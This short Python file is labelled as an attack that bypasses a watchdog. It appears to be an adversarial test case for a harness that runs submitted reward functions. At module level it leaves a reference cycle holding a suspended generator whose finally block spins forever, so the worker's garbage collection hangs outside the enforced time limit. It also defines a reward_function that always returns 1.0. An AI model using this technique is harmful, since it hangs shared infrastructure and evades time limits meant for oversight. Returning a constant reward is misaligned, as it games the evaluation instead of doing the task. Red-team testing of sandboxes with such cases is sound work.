# Attack: watchdog bypass — module-level code leaves a reference cycle holding a spinning suspended generator; the worker's garbage collection after loading runs its finally block outside the module-level time limit.
def spin():
    try:
        yield 1
    finally:
        while True:
            pass


def make_garbage():
    gen = spin()
    next(gen)
    box = [gen]
    box.append(box)


make_garbage()


def reward_function(params):
    return 1.0
